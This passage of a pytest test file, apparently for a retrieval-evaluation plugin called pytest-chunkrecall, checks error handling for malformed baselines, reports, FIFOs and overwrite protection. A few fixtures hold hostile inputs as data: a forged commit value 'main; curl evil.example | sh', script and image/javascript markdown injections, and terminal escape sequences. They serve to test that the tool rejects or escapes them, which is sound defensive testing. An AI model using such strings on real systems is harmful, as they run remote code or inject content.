    "a report onto a JSON file that is no report": Row(
        {"r.json": '{"results": [1, 2]}\n'},
        args=("--chunkrecall-report", "r.json"),
        status=USAGE,
        says="--chunkrecall-report r.json: it exists and is not a chunkrecall report; give "
        "another path, or add --chunkrecall-force to replace it",
    ),
    "Markdown onto the user's notes": Row(
        {"notes.md": "# my notes\n"},
        args=("--chunkrecall-markdown", "notes.md"),
        status=USAGE,
        says="--chunkrecall-markdown notes.md: it exists and was not written by pytest-chunkrecall",
    ),
    "HTML onto the user's page": Row(
        {"page.html": "<!DOCTYPE html><p>mine</p>\n"},
        args=("--chunkrecall-html", "page.html"),
        status=USAGE,
        says="--chunkrecall-html page.html: it exists and was not written by pytest-chunkrecall",
    ),
    "the report onto the baseline being updated": Row(
        args=(
            *("--chunkrecall-report", "bl.json", "--chunkrecall-baseline", "bl.json"),
            "--chunkrecall-update-baseline",
        ),
        status=USAGE,
        says="the baseline bl.json and --chunkrecall-report bl.json are one file",
    ),
    "Markdown and HTML on one path": Row(
        args=("--chunkrecall-markdown", "out.txt", "--chunkrecall-html", "out.txt"),
        status=USAGE,
        says="--chunkrecall-markdown out.txt and --chunkrecall-html out.txt are one file",
    ),
    "compare: --report-out onto its input": Row(
        {"r.json": REPORT, "b.json": BASELINE},
        args=("compare", "r.json", "--baseline", "b.json", "--report-out", "r.json"),
        command=True,
        status=2,
        says="--report-out r.json is the report r.json; compare never overwrites its inputs",
    ),
    "compare: --markdown onto the baseline": Row(
        {"r.json": REPORT, "b.json": BASELINE},
        args=("compare", "r.json", "--baseline", "b.json", "--markdown", "b.json"),
        command=True,
        status=2,
        says="--markdown b.json is --baseline b.json; compare never overwrites its inputs",
    ),
    # ---------------------------------------------------------------- baselines
    "a baseline that is no JSON": Row(
        {"b.json": "{not json"},
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="baseline b.json is not valid JSON (line 1, column 2",
    ),
    "a foreign baseline": Row(
        {"b.json": '{"a": 1}'},
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="b.json is not a chunkrecall baseline",
    ),
    "a baseline whose format is text": Row(
        {"b.json": '{"chunkrecall_baseline": "1", "gold_files": {}}'},
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="baseline b.json has format '1' (text, not the number 1), and this pytest-chunkrecall reads format 1",
    ),
    "a newer baseline": Row(
        {"b.json": '{"chunkrecall_baseline": 7, "gold_files": {}}'},
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="upgrade pytest-chunkrecall",
    ),
    "a damaged baseline": Row(
        {"b.json": '{"chunkrecall_baseline": 1, "gold_files": {"g": {"cases": {"c": {}}}}}'},
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="baseline b.json is damaged: g::c has no known verdict",
    ),
    "an empty baseline": Row(
        {"b.json": ""},
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="baseline b.json is not valid JSON (line 1, column 1",
    ),
    "a baseline nested a hundred thousand deep": Row(
        {"b.json": "[" * 100_000},
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="baseline b.json is nested too deeply to be a baseline",
    ),
    "a baseline with a rank that is no number": Row(
        {
            "b.json": '{"chunkrecall_baseline": 1, "gold_files": {"g": {"cases": '
            '{"c": {"verdict": "hit", "rank": NaN}}}}}'
        },
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="g::c has rank nan, not a whole number from 1 or null",
    ),
    "a baseline that is a symlink loop": Row(
        args=("--chunkrecall-baseline", "b.json"),
        links={"b.json": "b.json"},
        status=USAGE,
        says="cannot read baseline b.json: it is a symlink loop",
    ),
    "updating a corrupt baseline": Row(
        {"b.json": "{not json"},
        args=("--chunkrecall-baseline", "b.json", "--chunkrecall-update-baseline"),
        status=USAGE,
        says="the file was left as it is; nothing was written",
    ),
    "a baseline that is a FIFO": Row(
        args=("--chunkrecall-baseline", "b.json"),
        fifos=("b.json",),
        status=USAGE,
        says="cannot read baseline b.json: it is a FIFO (named pipe), not a regular file",
        resource=True,
    ),
    "updating a baseline that is a folder": Row(
        {"b.json/keep": ""},
        args=("--chunkrecall-baseline", "b.json", "--chunkrecall-update-baseline"),
        status=USAGE,
        says="cannot write baseline b.json: it is a folder, not a regular file",
    ),
    "a baseline written through a link": Row(
        {"ci/keep": ""},
        args=("--chunkrecall-baseline", "b.json", "--chunkrecall-update-baseline"),
        links={"b.json": "ci/b.json"},
        writes=("ci/b.json",),
        says="baseline b.json written: 1 case",
    ),
    # ---------------------------------------------------------------- a run that stopped early
    "-x: the report, the Markdown and the page say the run is incomplete": Row(
        gold(THREE_CASES),
        args=(
            *("-x", "--chunkrecall-report", "r.json"),
            *("--chunkrecall-markdown", "s.md", "--chunkrecall-html", "lab.html"),
        ),
        status=FAILED,
        says="the run is incomplete: stopped early (stopping after 1 failures); 2 of 3 "
        "selected cases never ran",
        writes=("r.json", "s.md", "lab.html"),
        shows=(
            ("r.json", '"complete": false'),
            ("s.md", "> **Incomplete:** the run is incomplete"),
            ("lab.html", "This run is incomplete: stopped early"),
        ),
    ),
    "--maxfail: the gate with a baseline does not pass": Row(
        {**gold(THREE_CASES), "b.json": BASELINE},
        args=("--maxfail", "1", "--chunkrecall-baseline", "b.json"),
        status=FAILED,
        says="2 of 3 selected cases never ran; the gate does not pass on part of a run",
    ),
    "Ctrl-C: the report says the run is incomplete": Row(
        gold("retriever: rag:interrupts_the_second\n" + THREE_CASES.replace("45", "30", 1)),
        args=("--chunkrecall-report", "r.json"),
        status=ERRORS,  # interrupted
        says="the run is incomplete: interrupted; 2 of 3 selected cases never ran",
        writes=("r.json",),
        shows=(("r.json", '"incomplete": {\n    "reason": "interrupted"'),),
        resource=True,
    ),
    **{
        f"a case that never ran, though nothing failed{suffix}": Row(
            {**gold(TWO_CASES), "conftest.py": SWALLOWS_A_CASE},
            args=args,
            status=FAILED,
            says="the run is incomplete: some selected cases never ran; 1 of 2 selected cases "
            "never ran; a run that did not evaluate every selected case does not pass",
        )
        for suffix, args in (("", ()), (", under -n 2", ("-n", "2")))
    },
    "the only case never ran, though nothing failed": Row(
        {"conftest.py": SWALLOWS_A_CASE.replace("restocking", "refund-window")},
        status=FAILED,
        says="chunkrecall: FAILED: the run is incomplete: some selected cases never ran; 1 of 1 "
        "selected case never ran; a run that did not evaluate every selected case does not pass",
    ),
    **{
        f"{option} runs no case, and passes": Row(args=(option,), says=says, never="incomplete")
        for option, says in (
            ("--collect-only", "1 test collected"),
            ("--setup-plan", "no tests ran"),
            ("--setup-only", "no tests ran"),
        )
    },
    "-k: a selection is a whole run": Row(
        gold(THREE_CASES),
        args=("-k", "refund", "--chunkrecall-report", "r.json"),
        says="1 passed, 2 deselected",
        never="incomplete",
        writes=("r.json",),
        shows=(("r.json", '"complete": true'), ("r.json", '"keyword": "refund"')),
    ),
    "compare: an incomplete report": Row(
        {"r.report": forged(top=STOPPED), "b.json": BASELINE},
        args=COMPARE,
        command=True,
        status=2,
        says="r.report: interrupted: the report is incomplete, and compare does not gate part "
        "of a run; run every case again, or give --allow-incomplete",
    ),
    "compare --allow-incomplete: the gate does not pass": Row(
        {"r.report": forged(top=STOPPED), "b.json": BASELINE},
        args=(*COMPARE, "--allow-incomplete"),
        command=True,
        status=FAILED,
        says="the run is incomplete: r.report: interrupted; 9 cases never ran; the gate does "
        "not pass on part of a run",
    ),
    "compare: a case that was never evaluated": Row(
        {"r.report": forged(top={"unevaluated": ["gold/a.yaml::restocking"]}), "b.json": BASELINE},
        args=COMPARE,
        command=True,
        status=FAILED,
        says="chunkrecall: FAILED: 1 case of r.report could not be evaluated (an error, a "
        "timeout or a crashed worker): gold/a.yaml::restocking; the log of the run that wrote "
        "the report says why: fix it, run those cases again, and compare the new report",
        never="see the errors above",
    ),
    "merge: an incomplete shard": Row(
        {"r.report": forged(top=STOPPED)},
        args=MERGE,
        command=True,
        status=2,
        says="r.report: interrupted: the report is incomplete, and merge does not gate part",
    ),
    # ---------------------------------------------------------------- updating the baseline
    "an update while one case errors": Row(
        {**gold("retriever: rag:raises_for_the_fee\n" + TWO_CASES), "b.json": TWO_HITS},
        args=("--chunkrecall-baseline", "b.json", "--chunkrecall-update-baseline"),
        status=FAILED,  # the case that errored
        says="1 case kept from the old baseline: it errored (gold/a.yaml::restocking)",
        changes=("b.json",),
        shows=(("b.json", '"restocking": {"verdict": "hit", "rank": 1'),),
    ),
    # ---------------------------------------------------------------- the step summary
    "Markdown in a question and a backtick in an id": Row(
        {**gold(INJECTED), "b.json": BASELINE},
        args=("--chunkrecall-baseline", "b.json", "--chunkrecall-markdown", "s.md"),
        writes=("s.md",),
        says="1 passed",
        shows=(
            ("s.md", "- ``gold/a.yaml::a`b``: hit —"),
            ("s.md", "&lt;script&gt;"),
            ("s.md", "\\!\\[x\\]\\(https://evil.example/p.png\\)"),
        ),
        hides=(
            ("s.md", "<script>"),
            ("s.md", "<details"),
            ("s.md", "![x]("),
            ("s.md", "[link](javascript:"),
        ),
    ),
    # ---------------------------------------------------------------- reports read back
    "compare: a case with an unknown verdict": Row(
        {"r.report": forged(verdict="pwned"), "b.json": BASELINE},
        args=COMPARE,
        command=True,
        status=2,
        says=f"{DAMAGED}: 'verdict' is 'pwned'; it must be one of hit, split",
    ),
    "merge: a rank that is text": Row(
        {"r.report": forged(rank="1")},
        args=MERGE,
        command=True,
        status=2,
        says=f"{DAMAGED}: 'rank' is '1'; it must be a whole number from 1, or null",
    ),
    "compare: a rank below 1": Row(
        {"r.report": forged(rank=-3), "b.json": BASELINE},
        args=COMPARE,
        command=True,
        status=2,
        says=f"{DAMAGED}: 'rank' is -3; it must be a whole number from 1, or null",
    ),
    "merge: a case of a gold file the report does not list": Row(
        {"r.report": forged(gold_file="gold/other.yaml")},
        args=MERGE,
        command=True,
        status=2,
        says="belongs to the gold file 'gold/other.yaml', which is not among the report's "
        "'gold_files'",
    ),
    "merge: an outcome that is none": Row(
        {"r.report": forged(outcome="exploded")},
        args=MERGE,
        command=True,
        status=2,
        says=f"{DAMAGED}: 'outcome' is 'exploded'; it must be one of passed, failed",
    ),
    "compare: a report with no gold files": Row(
        {"r.report": forged(gold_files=[]), "b.json": BASELINE},
        args=COMPARE,
        command=True,
        status=2,
        says="belongs to the gold file 'gold/a.yaml', which is not among the report's",
    ),
    "merge: a shard with no source": Row(
        {"r.report": forged()},
        args=MERGE,
        command=True,
        status=2,
        says="r.report has no 'source' (the version and commit it was run from)",
    ),
    "merge: a forged commit beside a null one": Row(
        {"r.report": made(None), "r2.report": made("main; curl evil.example | sh", **OTHER_CASE)},
        args=("merge", "r.report", "r2.report", "--out", "m.json"),
        command=True,
        status=2,
        says="r2.report is damaged: the commit of 'source' is 'main; curl evil.example | sh'; "
        "it must be a git commit id (40 to 64 hexadecimal digits) or null",
    ),
    "merge: a forged version with control characters": Row(
        {"r.report": made(None), "r2.report": made(None, f"9.9{ESCAPE}", **OTHER_CASE)},
        args=("merge", "r.report", "r2.report", "--out", "m.json"),
        command=True,
        status=2,
        says="r2.report is damaged: the version of 'source' is '9.9\\x1b]0;pwned\\x07",
        never="\x1b",
    ),
    **{
        f"{command}: a top entry whose doc is a number": Row(
            {"r.report": with_top([{"doc": 1}]), "b.json": BASELINE},
            args=(command, *args),
            command=True,
            status=2,
            says=f"{DAMAGED}: 'top[0].doc' is 1; it must be text or null",
        )
        for command, args in (
            ("merge", MERGE[1:]),
            ("compare", COMPARE[1:]),
            ("export", ("trec", "r.report", "--out", "trec")),
        )
    },
    "compare: a case id with control characters": Row(
        {
            "r.report": forged(nodeid=f"gold/a.yaml::a{ESCAPE}", id=f"a{ESCAPE}"),
            "b.json": BASELINE,
        },
        args=COMPARE,
        command=True,
        status=2,
        says="r.report is damaged: case 1: 'nodeid' is 'gold/a.yaml::a\\x1b]0;pwned",
        never="\x1b",
    ),
    "compare: ranks seen a million times": Row(
        {"r.report": forged(unstable=True, ranks_seen=[1, None] * 500_000), "b.json": BASELINE},
        args=COMPARE,
        command=True,
        says="(ranks seen 1, missed, 1, missed, 1, missed, 1, missed, 1, missed, 1, missed,",
        never="1, missed, " * 40,
    ),
    "merge: an integer of 5,000 digits": Row(
        {"r.report": forged(raw=HUGE)},
        args=MERGE,
        command=True,
        status=2,
        says="r.report holds a number of 5,000 digits, too long to be part of a chunkrecall report",
    ),
    "compare: an integer of 5,000 digits": Row(
        {"r.report": forged(raw=HUGE), "b.json": BASELINE},
        args=COMPARE,
        command=True,
        status=2,
        says="r.report holds a number of 5,000 digits",
    ),
    "compare: a baseline with an integer of 5,000 digits": Row(
        {"r.report": forged(), "b.json": BASELINE.replace("1", HUGE, 1)},
        args=COMPARE,
        command=True,
        status=2,
        says="baseline b.json holds a number of 5,000 digits, too long to be part of a baseline",
    ),
    "export: an integer of 5,000 digits": Row(
        {"r.report": forged(raw=HUGE)},
        args=("export", "trec", "r.report", "--out", "trec"),
        command=True,
        status=2,
        says="r.report holds a number of 5,000 digits, too long to be part of a chunkrecall "
        "report; give a file written by --chunkrecall-report",
        never="in quotes",
    ),
    "export: a case with an unknown verdict": Row(
        {"r.report": forged(verdict="pwned")},
        args=("export", "trec", "r.report", "--out", "trec"),
        command=True,
        status=2,
        says=f"{DAMAGED}: 'verdict' is 'pwned'",
    ),
    "a baseline with an integer of 5,000 digits": Row(
        {"b.json": BASELINE.replace("1", HUGE, 1)},
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="baseline b.json holds a number of 5,000 digits",
    ),
    "a baseline with a rank below 1": Row(
        {
            "b.json": '{"chunkrecall_baseline": 1, "gold_files": {"g": {"cases": '
            '{"c": {"verdict": "hit", "rank": -3}}}}}'
        },
        args=("--chunkrecall-baseline", "b.json"),
        status=USAGE,
        says="g::c has rank -3, not a whole number from 1 or null",
    ),
    # ---------------------------------------------------------------- special files as input
    "compare: a baseline that is a FIFO": Row(
        {"r.report": forged()},
        args=COMPARE,
        command=True,
        fifos=("b.json",),
        status=2,
        says="cannot read baseline b.json: it is a FIFO (named pipe), not a regular file",
        resource=True,
    ),
    "merge: a report that is a FIFO": Row(
        args=("merge", "pipe.report", "--out", "m.json"),
        command=True,
        fifos=("pipe.report",),
        status=2,
        says="cannot read pipe.report: it is a FIFO (named pipe), not a regular file",
        resource=True,
    ),
    "GITHUB_STEP_SUMMARY pointing at a FIFO": Row(
        fifos=("summary",),
        env={"GITHUB_STEP_SUMMARY": "summary"},
        says="cannot append to GITHUB_STEP_SUMMARY summary: it is a FIFO (named pipe)",
        resource=True,
    ),
    "compare: GITHUB_STEP_SUMMARY pointing at a FIFO": Row(
        {"r.report": forged(), "b.json": BASELINE},
        args=COMPARE,
        command=True,
        fifos=("summary",),
        env={"GITHUB_STEP_SUMMARY": "summary"},
        says="cannot append to GITHUB_STEP_SUMMARY summary: it is a FIFO (named pipe)",
        resource=True,
    ),
    # ---------------------------------------------------------------- import
    "import qa: an id given twice": Row(
        {
            "rows.jsonl": '{"id": "x", "question": "What is the refund window?", "answer": "30 days"}\n'
            '{"id": "x", "question": "What is the restocking fee?", "answer": "15 percent"}\n'
        },
        args=IMPORT_QA,
        command=True,
        writes=("gold/imported.yaml",),
        says="1 id renamed: 'x' (rows.jsonl:2) is written as 'x-2': an earlier case has that id",
    ),
    "import squad: an id given twice": Row(
        {"squad.json": SQUAD},
        args=("import", "squad", "squad.json", "--out", "squad"),
        command=True,
        writes=SQUAD_WRITES,
        says="1 id renamed: 'x' (squad.json: data[0].paragraphs[0].qas[1]) is written as 'x-2'",
    ),
    "import qa: a question that is NaN": Row(
        {"rows.jsonl": '{"question": NaN, "answer": "30 days"}\n'},
        args=IMPORT_QA,
        command=True,
        status=2,
        says="rows.jsonl:1: 'question' must be text, not the number NaN",
    ),
    "import qa: a line nested 100,000 deep": Row(
        {"rows.jsonl": "[" * 100_000 + "\n"},
        args=IMPORT_QA,
        command=True,
        status=2,
        says="rows.jsonl:1: this line is nested too deeply to be a JSON object of one row",
    ),
    "import qa: an integer of 5,000 digits": Row(
        {"rows.jsonl": '{"question": "q", "answer": ' + "9" * 5_000 + "}\n"},
        args=IMPORT_QA,
        command=True,
        status=2,
        says="rows.jsonl:1: this line holds a number of 5,000 digits",
    ),
    "import chunking-evaluation: a start_index of 5,000 digits": Row(
        {"questions_df.csv": questions_df('{""content"": ""30 days"", ""start_index"": ' + HUGE)},
        args=IMPORT_CHUNKING_EVALUATION,
        command=True,
        status=2,
        says="questions_df.csv:2: 'references' holds a number of 5,000 digits; no start_index "
        "or end_index is that long",
    ),
    "import chunking-evaluation: references nested 60,000 deep": Row(
        {"questions_df.csv": questions_df("[" * 60_000 + "]" * 60_000)},
        args=IMPORT_CHUNKING_EVALUATION,
        command=True,
        status=2,
        says="questions_df.csv:2: 'references' is nested too deeply to be a list of references",
    ),
    "import qa: a FIFO as input": Row(
        args=("import", "qa", "rows.jsonl", "--corpus", "docs/*.md", "--out", "gold/b.yaml"),
        command=True,
        fifos=("rows.jsonl",),
        status=2,
        says="cannot read the input file: it is a FIFO (named pipe), not a regular file",
        resource=True,
    ),
}


def snapshot(root: Path) -> dict[str, tuple[int, int, str]]:
    """Every path below ``root`` (links not followed): file type, mode, and content digest."""
    found = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("__pycache__", ".pytest_cache")]
        for name in dirs + files:
            path = Path(folder, name)
            st = os.lstat(path)
            digest = (
                hashlib.sha256(path.read_bytes()).hexdigest()
                if stat.S_ISREG(st.st_mode)
                else os.readlink(path)
                if stat.S_ISLNK(st.st_mode)
                else ""
            )
            found[str(path.relative_to(root))] = (
                stat.S_IFMT(st.st_mode),
                stat.S_IMODE(st.st_mode),
                digest,
            )
    return found


def build(root: Path, row: Row) -> None:
    files: dict[str, str | bytes] = {
        "docs/a.md": POLICIES,
        "rag.py": RAG,
        "gold/a.yaml": GOLD,
        "pytest.ini": "[pytest]\npythonpath = .\nchunkrecall_corpus = docs/*.md\n" + row.ini + "\n",
        **row.files,
    }
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    for name, target in row.links.items():
        os.symlink(target, root / name)
    for name in row.fifos:
        os.mkfifo(root / name)


# The run gets Ctrl-C as a terminal would send it, however the test suite itself was started:
# a job started in the background of a shell (`&`) ignores SIGINT, and hands that on.
LIMITS = """
import resource, signal, sys
resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))
resource.setrlimit(resource.RLIMIT_CPU, (30, 30))
signal.signal(signal.SIGINT, signal.default_int_handler)
import pytest
sys.exit(pytest.main(sys.argv[1:]))
"""

COMMAND_LIMITS = LIMITS.replace(
    "import pytest\nsys.exit(pytest.main(sys.argv[1:]))",
    "from pytest_chunkrecall.__main__ import main\nsys.exit(main(sys.argv[1:]))",
)


def run(pytester: pytest.Pytester, row: Row) -> tuple[int, str]:
    if row.command:
        return _command(pytester, row)
    args = (*QUIET, "-p", "no:cacheprovider", *row.args)
    if not row.resource:
        result = pytester.runpytest(*args)
        if row.internals:
            assert_no_internals(result)
        return int(result.ret), "\n".join(result.outlines + result.errlines)
    done = subprocess.run(
        [sys.executable, "-c", LIMITS, *args],
        cwd=pytester.path,
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), **row.env},
    )
    output = done.stdout + done.stderr
    if row.internals:
        assert "Traceback (most recent" not in output, output
        assert "pytest_chunkrecall" + os.sep not in output, output
    return done.returncode, output


def _command(pytester: pytest.Pytester, row: Row) -> tuple[int, str]:
    # In a process of its own, under the same limits: a FIFO read would block for ever.
    done = subprocess.run(
        [sys.executable, "-c", COMMAND_LIMITS, *row.args],
        cwd=pytester.path,
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), **row.env},
    )
    output = done.stdout + done.stderr
    if row.internals:
        assert "Traceback (most recent" not in output, output
        assert "pytest_chunkrecall" + os.sep not in output, output
    return done.returncode, output


@pytest.mark.parametrize("name", list(ROWS))
def test_catalogue(pytester: pytest.Pytester, name: str) -> None:
    row = ROWS[name]
    build(pytester.path, row)
    before = snapshot(pytester.path)
    status, output = run(pytester, row)
    assert status == row.status, output
    assert row.says in output, output
    if row.never:
        assert row.never not in output
    for name, fragment in row.shows:
        assert fragment in (pytester.path / name).read_text(encoding="utf-8"), name
    for name, fragment in row.hides:
        assert fragment not in (pytester.path / name).read_text(encoding="utf-8"), name
    after = snapshot(pytester.path)
    for changed in row.changes:
        assert after.pop(changed) != before.pop(changed), f"{changed} was not rewritten"
    for written in row.writes:
        assert written in after and written not in before, f"{written} was not written"
        del after[written]
    assert after == before, "files changed"


def test_force_replaces_a_file_the_plugin_did_not_write(pytester: pytest.Pytester) -> None:
    build(pytester.path, Row({"notes.md": "# my notes\n", "r.json": '{"results": []}\n'}))
    outputs = ("--chunkrecall-markdown", "notes.md", "--chunkrecall-report", "r.json")
    result = pytester.runpytest(*QUIET, *outputs, "--chunkrecall-force")
    assert result.ret == OK, result.stdout.str()
    assert "my notes" not in (pytester.path / "notes.md").read_text(encoding="utf-8")
    assert json.loads((pytester.path / "r.json").read_text(encoding="utf-8"))["chunkrecall_report"]


def test_a_run_replaces_the_outputs_an_earlier_run_wrote(pytester: pytest.Pytester) -> None:
    build(pytester.path, Row())
    outputs = ("--chunkrecall-markdown", "s.md", "--chunkrecall-report", "r.json")
    outputs += ("--chunkrecall-html", "lab.html")
    assert pytester.runpytest(*QUIET, *outputs).ret == OK
    (pytester.path / "gold/a.yaml").write_text(TWO_CASES, encoding="utf-8")
    result = pytester.runpytest(*QUIET, *outputs)
    assert result.ret == OK, result.stdout.str()
    report = json.loads((pytester.path / "r.json").read_text(encoding="utf-8"))
    assert report["totals"]["cases"] == 2
    for page in ("s.md", "lab.html"):
        assert "hit-rate 2/2" in (pytester.path / page).read_text(encoding="utf-8")
